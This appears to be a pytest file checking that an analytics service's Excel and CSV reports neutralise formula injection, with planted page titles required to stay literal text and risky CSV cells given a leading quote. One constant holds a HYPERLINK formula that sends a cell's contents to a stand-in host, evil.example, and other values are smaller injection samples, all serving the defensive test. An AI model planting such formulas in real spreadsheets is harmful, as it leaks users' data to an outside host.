"""Reports cannot run planted formulas: every text cell is a literal string (read back from
the workbook's XML), CSV values that a spreadsheet would evaluate get a leading `'`, and
`Lập lúc` is a date cell; only verified pages reach a report's top sheet."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook

from service import sites, tokens
from service.pages import verifier
from service.reports import build as reports
from service.reports import workbook
from service.store import Store
from tests.conftest import post_hit
from tests.portal_server import Page, portal

PLANTED = '=HYPERLINK("http://evil.example/?d="&B2,"Xem chi tiet")'


@pytest.fixture
def admin(store: Store) -> dict[str, str]:
    return {"Authorization": f"Bearer {tokens.create(store, 'root', [], now=datetime.now(UTC))}"}


def _xlsx(client: FlaskClient, site: str, admin: dict[str, str]) -> bytes:
    month = datetime.now(ZoneInfo("Asia/Ho_Chi_Minh"))  # the site's own month
    answer = client.get(f"/api/v1/admin/sites/{site}/report?month={month:%Y-%m}", headers=admin)
    assert answer.status_code == 200
    return answer.data


def test_planted_formulas_stay_text_in_every_cell(client: FlaskClient, store: Store,
                                                  admin: dict[str, str]) -> None:
    sites.put_site(store, "quan", {"name": "=1+1"})  # no origins: titles come from clients
    post_hit(client, "quan", path="/a", title=PLANTED)
    post_hit(client, "quan", path="/b", title="=1+1", ip="198.51.100.4", token="other-0001")
    post_hit(client, "quan", path="/c", title="@SUM(A1)", ip="192.0.2.4", token="other-0002")
    data = _xlsx(client, "quan", admin)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            xml = archive.read(name).decode("utf-8")
            assert not re.search(r"<f[ >]", xml), name  # no formula anywhere
    book = load_workbook(io.BytesIO(data))
    top = book["Trang xem nhiều"]
    titles = {row[1].value: row[2] for row in top.iter_rows(min_row=2)}
    assert titles["/a"].value == PLANTED and titles["/a"].data_type == "s"
    assert titles["/b"].value == "=1+1" and titles["/b"].data_type == "s"
    assert titles["/c"].value == "@SUM(A1)"
    summary = book["Tổng hợp"]
    values = {row[0].value: row[1] for row in summary.iter_rows(min_row=2) if row[0].value}
    assert values["Cổng"].value == "=1+1" and values["Cổng"].data_type == "s"
    assert values["Lập lúc"].is_date  # a date cell, not text
    made = values["Lập lúc"].value
    assert isinstance(made, datetime)
    assert abs(made - datetime.now(UTC).replace(tzinfo=None) - timedelta(hours=7)) < \
        timedelta(minutes=5)


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("Tin A", "Tin A"), (12, "12"), ("2026-11-01", "2026-11-01")])
def test_csv_values_a_spreadsheet_would_evaluate_get_a_quote(value: object,
                                                             written: str) -> None:
    text = workbook.csv_text(["v"], [{"v": value}])
    assert list(csv.reader(io.StringIO(text))) == [["v"], [written]]


def test_only_verified_pages_reach_the_top_sheet(client: FlaskClient, store: Store,
                                                 admin: dict[str, str]) -> None:
    with portal({"/tin-tuc/that": Page()}) as server:
        site, _ = sites.put_site(store, "thanhxuan", {"origins": [server.origin]})
        post_hit(client, path="/tin-tuc/that", title="Tin thật")
        post_hit(client, path="/JUNK2", title=PLANTED)
        verifier.Verifier(store).sweep()
    now = datetime.now(UTC)
    period = reports.period_from(None, str(now.year), today=now.date())
    report = reports.site_report(store, site, period, now=now)
    assert [page["path"] for page in report.top_pages] == ["/tin-tuc/that"]
    book = load_workbook(io.BytesIO(_xlsx(client, "thanhxuan", admin)))
    assert [row[1].value for row in book["Trang xem nhiều"].iter_rows(min_row=2)] == [
        "/tin-tuc/that"]
